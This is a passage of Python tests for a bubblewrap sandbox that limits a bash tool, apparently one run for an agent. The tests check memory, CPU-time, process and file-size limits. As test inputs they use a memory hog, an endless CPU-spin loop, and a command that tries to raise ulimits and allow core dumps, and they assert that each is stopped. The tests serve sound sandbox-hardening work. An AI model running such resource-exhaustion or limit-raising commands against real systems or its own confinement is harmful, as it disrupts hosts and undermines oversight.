    print(f"\nmemory hog (4 GiB asked): {output.splitlines()[-2:]} after {took:.2f} s")
    assert result.is_error and "MemoryError" in output
    peak = int(output.split("peak ")[1].split(" KiB")[0])
    assert peak < 300 * 1024


async def test_a_cpu_spin_stops_at_the_cpu_limit(bwrap: Confinement, open_dir: Path) -> None:
    tools = limited(bwrap, Limits(cpu_s=1))
    started = time.monotonic()
    result = await tools.run("bash", {"command": "while :; do :; done"}, ctx_in(open_dir))
    took = time.monotonic() - started
    print(f"\nCPU spin: stopped after {took:.2f} s: {text(result).splitlines()[-1]}")
    # Stopped by the limit's own signals (SIGXCPU at the soft limit, SIGKILL at the hard
    # one), not by the call's time limit: on a loaded machine one CPU second takes longer
    # in wall time, so how long it took proves nothing.
    assert result.is_error and "timed out" not in text(result)
    assert text(result).splitlines()[-1] in ("[exit code 137]", "[exit code 152]")


async def test_the_limits_cannot_be_raised_and_leave_no_core(
    bwrap: Confinement, open_dir: Path
) -> None:
    tools = limited(bwrap, Limits(processes=300, memory_mb=512, file_mb=64, cpu_s=30))
    output = text(
        await tools.run(
            "bash",
            {"command": "ulimit -u -d -f -t -c; ulimit -f unlimited 2>&1; ulimit -c 1 2>&1"},
            ctx_in(open_dir),
        )
    )
    values = [line.rsplit(" ", 1)[-1] for line in output.splitlines()[:5]]
    assert values == ["300", "524288", "65536", "30", "0"], output
    assert output.count("cannot modify limit") == 2, output
